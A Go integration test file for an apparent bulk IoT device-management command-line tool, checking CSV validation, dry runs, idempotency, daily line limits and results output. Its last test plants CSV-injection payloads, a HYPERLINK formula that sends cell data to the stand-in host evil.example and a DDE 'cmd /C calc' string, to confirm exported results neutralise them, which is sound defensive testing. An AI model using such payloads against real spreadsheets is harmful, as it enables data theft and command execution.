package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/iot-ops/tsbulk/db/dbtest"
	"github.com/iot-ops/tsbulk/harness/stack"
	tssim "github.com/iot-ops/tsbulk/harness/thingspacesim"
)

// One product stack for the package: the starter is exercised as an
// operator uses it, against the dev server, PostgreSQL and the simulator.
var st *stack.Stack

// stWorker is the stack's worker: a test that submits for tenants gives it
// those tenants (the worker decides whose a bulk change's account is).
var stWorker *stack.Worker

func TestMain(m *testing.M) {
	flag.Parse()
	if testing.Short() {
		os.Exit(0)
	}
	os.Exit(withStack(m))
}

func withStack(m *testing.M) int {
	url, drop, err := scratchDatabase()
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer drop()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	st, err = stack.Start(ctx, stack.Options{DatabaseURL: url,
		ThingSpace: tssim.Config{
			CompletionDelay:       200 * time.Millisecond,
			CallbackRetryInterval: 200 * time.Millisecond,
		}})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer st.Close()
	if stWorker, err = st.StartWorker(); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	for _, kv := range st.Env() {
		k, v, _ := strings.Cut(kv, "=")
		if strings.HasPrefix(k, "TSBULK_") {
			os.Setenv(k, v)
		}
	}
	return m.Run()
}

// scratchDatabase creates a database for the package's tests.
func scratchDatabase() (string, func(), error) {
	var url string
	var cleanup []func()
	tb := &cleanupTB{cleanups: &cleanup}
	func() {
		defer func() {
			if r := recover(); r != nil {
				url = ""
			}
		}()
		url = dbtest.NewURL(tb)
	}()
	if url == "" {
		return "", nil, fmt.Errorf("could not create a test database: %s", tb.msg)
	}
	return url, func() {
		for i := len(cleanup) - 1; i >= 0; i-- {
			cleanup[i]()
		}
	}, nil
}

// cleanupTB lets dbtest run outside a test.
type cleanupTB struct {
	testing.TB
	cleanups *[]func()
	msg      string
}

func (c *cleanupTB) Helper()          {}
func (c *cleanupTB) Cleanup(f func()) { *c.cleanups = append(*c.cleanups, f) }
func (c *cleanupTB) Fatalf(f string, a ...any) {
	c.msg = fmt.Sprintf(f, a...)
	panic(c.msg)
}

// starter runs the command as an operator would and returns its exit
// status, standard output and standard error.
func starter(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errOut bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	code := run(ctx, args, &out, &errOut)
	return code, out.String(), errOut.String()
}

func file(t *testing.T, name, content string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(p, []byte(content), 0o600))
	return p
}

func countBulkChanges(t *testing.T) int {
	var n int
	require.NoError(t, st.Store.Pool.QueryRow(context.Background(), `SELECT count(*) FROM bulk_changes`).Scan(&n))
	return n
}

// devices seeds n devices in the simulator in the given state.
func devices(t *testing.T, prefix, state string, n int) []tssim.DeviceSeed {
	t.Helper()
	ds := tssim.GenerateDevices(n, prefix, state)
	if state != "" {
		require.NoError(t, st.TS.Seed(ds...))
	}
	return ds
}

func TestSubmitReportsEveryProblemAndWritesNothing(t *testing.T) {
	before := countBulkChanges(t)
	good := devices(t, "8914811001", "active", 1)[0]
	f := file(t, "bad.csv", strings.Join([]string{
		"iccid,operation,imei,service_plan,mdn_zip_code,ppu_first_name,ppu_last_name,ppu_address_line1,ppu_city,ppu_state,ppu_zip,ppu_country",
		good.ICCID + ",suspend,,,,,,,,,,",
		"89148000001234567890,suspend,,,,,,,,,,", // wrong check digit
		"1234,activate,,m2m_4G,98801,,,,,,,",     // too short
		good.ICCID + ",restore,,,,,,,,,,",        // the same ICCID twice
		"89148000001234567895,fly,,,,,,,,,,",     // unknown operation
		"89148000001234567895,activate,990000862471854,m2m_4G,98801,Ann,Lee,PO Box 12,Reno,NV,89501,US", // PO box
		"89148000001234567895,activate,,,9880,,,,,,,",                                                   // no plan, bad ZIP
	}, "\n"))

	code, _, errOut := starter(t, "submit", "--file", f)

	require.Equal(t, 2, code)
	for _, want := range []string{
		"row 3, field iccid", "row 4, field iccid", "row 5, field iccid", "row 6, field operation",
		"row 7, field ppu_address_line1", "row 8, field imei", "row 8, field service_plan", "row 8, field mdn_zip_code",
	} {
		require.Contains(t, errOut, want)
	}
	require.NotContains(t, errOut, "PO Box 12", "PPU values are personal data and stay out of messages")
	require.Contains(t, errOut, "nothing was submitted")
	require.Equal(t, before, countBulkChanges(t), "nothing written")
}

func TestSubmitRejectsUnknownColumn(t *testing.T) {
	f := file(t, "cols.csv", "iccid,operation,colour\n89148000001234567895,suspend,blue\n")
	code, _, errOut := starter(t, "submit", "--file", f)
	require.Equal(t, 2, code)
	require.Contains(t, errOut, "colour")
}

func TestDryRunPlansAndWritesNothing(t *testing.T) {
	before := countBulkChanges(t)
	ds := devices(t, "8914811002", "active", 5)
	var b strings.Builder
	b.WriteString("iccid\n")
	for _, d := range ds {
		b.WriteString(d.ICCID + "\n")
	}
	code, out, errOut := starter(
		t,
		"submit",
		"--file",
		file(t, "dry.csv", b.String()),
		"--operation",
		"suspend",
		"--dry-run",
		"--batch-size",
		"2",
	)
	require.Equal(t, 0, code, errOut)
	require.Contains(t, out, "valid: 5 devices, suspend 5")
	require.Contains(t, out, "would send 3 ThingSpace requests")
	require.Contains(t, out, "nothing was written or started")
	require.Equal(t, before, countBulkChanges(t))
}

// --dry-run shows what each request would carry besides its devices:
// the SKU an activation by ICCID sends in lieu of the IMEI, and whether a
// deactivation asks ThingSpace to remove the device (the file's choice, or
// the worker's setting).
func TestDryRunShowsRequestMembers(t *testing.T) {
	act := devices(t, "8914811012", "preactive", 2)
	deact := devices(t, "8914811013", "active", 2)
	csv := "iccid,operation,imei,service_plan,mdn_zip_code,sku_number,delete_after_deactivation\n" +
		act[0].ICCID + ",activate,,m2m_4G,98801,SM-T387VZKAVZW,\n" +
		act[1].ICCID + ",activate," + act[1].IMEI + ",m2m_4G,98801,,\n" +
		deact[0].ICCID + ",deactivate,,,,,\n" +
		deact[1].ICCID + ",deactivate,,,,,no\n"
	code, out, errOut := starter(t, "submit", "--file", file(t, "members.csv", csv), "--dry-run")
	require.Equal(t, 0, code, errOut)
	require.Contains(t, out, "would send 4 ThingSpace requests")
	require.Contains(t, out, "batch 1: activate of 1 devices; servicePlan m2m_4G, mdnZipCode 98801, skuNumber SM-T387VZKAVZW\n")
	require.Contains(t, out, "batch 2: activate of 1 devices; servicePlan m2m_4G, mdnZipCode 98801\n")
	require.Contains(t, out, "batch 3: deactivate of 1 devices; reasonCode FF, etfWaiver false, "+
		"deleteAfterDeactivation true (the worker's thingspace.delete_after_deactivation)\n")
	require.Contains(t, out, "batch 4: deactivate of 1 devices; reasonCode FF, etfWaiver false, "+
		"deleteAfterDeactivation false (from the file)\n")
}

// A deactivation removes the device from ThingSpace's inventory unless the
// file says otherwise; the results say which devices were removed.
func TestResultsShowDevicesRemovedFromThingSpace(t *testing.T) {
	ds := devices(t, "8914811014", "active", 2)
	removed, kept := ds[0], ds[1]
	f := file(t, "deact.csv", "iccid,operation,delete_after_deactivation\n"+
		removed.ICCID+",deactivate,\n"+kept.ICCID+",deactivate,false\n")
	code, out, errOut := starter(t, "submit", "--file", f, "--wait", "--callback-timeout", "5s")
	require.Equal(t, 0, code, errOut)
	id := strings.Fields(strings.SplitN(out, "bulk change ", 2)[1])[0]
	sim, _ := st.TS.Device(removed.ICCID)
	require.True(t, sim.Removed, "ThingSpace no longer has the device")
	sim, _ = st.TS.Device(kept.ICCID)
	require.False(t, sim.Removed)

	code, out, errOut = starter(t, "results", id)
	require.Equal(t, 0, code, errOut)
	require.Regexp(t, removed.ICCID+`\s+deactivate\s+PROCESSED\s+deactive, removed from ThingSpace\s`, out)
	require.Regexp(t, kept.ICCID+`\s+deactivate\s+PROCESSED\s+deactive\s`, out)

	code, out, errOut = starter(t, "results", id, "--csv")
	require.Equal(t, 0, code, errOut)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.True(t, strings.HasSuffix(lines[0], ",billing_error,removed_from_thingspace"), lines[0])
	require.Contains(t, out, removed.ICCID+",deactivate,PROCESSED,deactivated,deactive,")
	for _, l := range lines[1:] {
		want := ",false"
		if strings.HasPrefix(l, removed.ICCID) {
			want = ",true"
		}
		require.True(t, strings.HasSuffix(l, want), l)
	}
}

func TestSubmitWaitThenStatusAndResults(t *testing.T) {
	ok := devices(t, "8914811003", "active", 4)
	bad := devices(t, "8914811004", "active", 1) // restore of an active device fails
	csv := "iccid,operation\n"
	for _, d := range ok {
		csv += d.ICCID + ",suspend\n"
	}
	csv += bad[0].ICCID + ",restore\n"
	f := file(t, "wait.csv", csv)

	code, out, errOut := starter(t, "submit", "--file", f, "--wait", "--callback-timeout", "5s")

	require.Equal(t, 1, code, "a device failed: %s", errOut)
	require.Contains(t, out, "submitted: 5 devices")
	require.Contains(t, out, "FINISHED: 5 devices, 4 processed, 1 errors")
	require.Contains(t, out, "suspended")
	require.Contains(t, out, "INPUT_INVALID.DeviceState.Invalid")
	require.Contains(t, errOut, "1 of 5 device changes failed")
	id := strings.Fields(strings.SplitN(out, "bulk change ", 2)[1])[0]

	code, out, errOut = starter(t, "status", id)
	require.Equal(t, 0, code, errOut)
	require.Contains(t, out, "finished  5/5 done (processed 4, errors 1)")
	require.Contains(t, out, "INPUT_INVALID.DeviceState.Invalid")

	code, out, errOut = starter(t, "results", id, "--csv")
	require.Equal(t, 0, code, errOut)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 6, "header and one line per device")
	require.True(t, strings.HasPrefix(lines[0], "iccid,operation,status"))
	for _, d := range ok {
		require.Contains(t, out, d.ICCID+",suspend,PROCESSED,suspended,suspended")
	}
	require.Contains(t, out, bad[0].ICCID+",restore,ERROR")
}

func TestSubmitSameIdempotencyKeyReturnsExistingBulkChange(t *testing.T) {
	ds := devices(t, "8914811005", "active", 2)
	f := file(t, "idem.csv", "iccid,operation\n"+ds[0].ICCID+",suspend\n"+ds[1].ICCID+",suspend\n")
	before := countBulkChanges(t)

	code, first, errOut := starter(t, "submit", "--file", f, "--idempotency-key", "ticket-4711")
	require.Equal(t, 0, code, errOut)
	code, second, errOut := starter(t, "submit", "--file", f, "--idempotency-key", "ticket-4711")
	require.Equal(t, 0, code, errOut)

	id := strings.Fields(strings.SplitN(first, "bulk change ", 2)[1])[0]
	require.Contains(t, second, "bulk change "+id+" already exists for this idempotency key")
	require.Equal(t, before+1, countBulkChanges(t), "one bulk change, not two")
}

func TestStatusOfUnknownBulkChange(t *testing.T) {
	code, _, errOut := starter(t, "status", "00000000-0000-0000-0000-000000000000")
	require.Equal(t, 1, code)
	require.Contains(t, errOut, "no bulk change")
}

// A line that already had its daily number of state changes is refused at
// submission, --dry-run included, rather than discovered as a failure.
func TestDailyLineLimitReportedBeforeSubmission(t *testing.T) {
	busy := devices(t, "8914811006", "active", 1)[0]
	free := devices(t, "8914811007", "active", 1)[0]
	ctx := context.Background()
	// Five state changes of the line accepted by ThingSpace in the last
	// hours, by earlier bulk changes.
	for i := 1; i <= 5; i++ {
		id := fmt.Sprintf("11111111-1111-1111-1111-00000000000%d", i)
		_, err := st.Store.Pool.Exec(
			ctx,
			`INSERT INTO bulk_changes (id, account_name, total, batches, workflow_id, status)
			VALUES ($1::uuid, 'acct', 1, 1, 'bulk-change/' || $1::text, 'FINISHED')`,
			id,
		)
		require.NoError(t, err)
		_, err = st.Store.Pool.Exec(
			ctx,
			`INSERT INTO device_changes (bulk_change_id, seq, row_number, iccid, operation, batch_no, status, submitted_at)
			VALUES ($1, 1, 2, $2, 'suspend', 1, 'PROCESSED', now() - interval '2 hours')`,
			id,
			busy.ICCID,
		)
		require.NoError(t, err)
	}
	before := countBulkChanges(t)
	f := file(t, "daily.csv", "iccid,operation\n"+free.ICCID+",suspend\n"+busy.ICCID+",restore\n")

	for _, args := range [][]string{{"submit", "--file", f, "--dry-run"}, {"submit", "--file", f}} {
		code, _, errOut := starter(t, args...)
		require.Equal(t, 2, code, errOut)
		require.Contains(t, errOut, "row 3, field iccid")
		require.Contains(t, errOut, "5 state changes in the last 24 hours")
		require.Contains(t, errOut, "ThingSpace allows 5 a day")
		require.NotContains(t, errOut, "row 2")
	}
	require.Equal(t, before, countBulkChanges(t), "nothing written")
}

// Help needs no configuration: `starter --help` and `starter submit --help`
// print their usage and exit 0 even without a database URL.
func TestHelpNeedsNoConfiguration(t *testing.T) {
	t.Setenv("TSBULK_DATABASE_URL", "")
	for _, args := range [][]string{{"--help"}, {"help"}, {"submit", "--help"}, {"status", "-h"}, {"resume-failed", "--help"}} {
		var out, errOut bytes.Buffer
		require.Equal(t, 0, run(context.Background(), args, &out, &errOut), "%v: %s", args, errOut.String())
		require.NotContains(t, errOut.String(), "database.url", "%v", args)
		require.Contains(t, strings.ToLower(errOut.String()), "usage", "%v", args)
	}
	var out, errOut bytes.Buffer
	require.Equal(t, 2, run(context.Background(), []string{"status", "x"}, &out, &errOut))
	require.Contains(t, errOut.String(), "database.url", "without help, the configuration is checked")
}

// Texts that reach results from outside (ThingSpace's and Rev.io's error
// messages, callbacks) cannot plant a formula in the CSV an operator opens
// in a spreadsheet, nor control characters.
func TestResultsCSVIsInertInASpreadsheet(t *testing.T) {
	ds := devices(t, "8914811019", "active", 3)
	f := file(t, "inert.csv", "iccid,operation\n"+ds[0].ICCID+",suspend\n"+ds[1].ICCID+",suspend\n"+ds[2].ICCID+",suspend\n")
	code, out, errOut := starter(t, "submit", "--file", f, "--wait", "--callback-timeout", "5s")
	require.Equal(t, 0, code, errOut)
	id := strings.Fields(strings.SplitN(out, "bulk change ", 2)[1])[0]
	hostile := map[string][2]string{ // iccid → error message, billing error
		ds[0].ICCID: {`=HYPERLINK("http://evil.example/?"&A1,"details")`, "@SUM(1+1)*cmd|' /C calc'!A0"},
		ds[1].ICCID: {"+1-2", "-2+3"},
		ds[2].ICCID: {"\tindented\x07 bell\r\nnext line", "\rcarriage"},
	}
	for iccid, texts := range hostile {
		_, err := st.Store.Pool.Exec(context.Background(),
			`UPDATE device_changes SET error_message = $1, billing_error = $2 WHERE bulk_change_id = $3 AND iccid = $4`,
			texts[0], texts[1], id, iccid)
		require.NoError(t, err)
	}

	code, out, errOut = starter(t, "results", id, "--csv")
	require.Equal(t, 0, code, errOut)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4, "header and one line per device:\n%s", out)
	got := map[string][2]string{}
	for _, r := range rows[1:] {
		got[r[0]] = [2]string{r[8], r[10]}
	}
	require.Equal(t, map[string][2]string{
		ds[0].ICCID: {`'=HYPERLINK("http://evil.example/?"&A1,"details")`, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		ds[1].ICCID: {"'+1-2", "'-2+3"},
		ds[2].ICCID: {"' indented  bell  next line", "' carriage"},
	}, got)
}
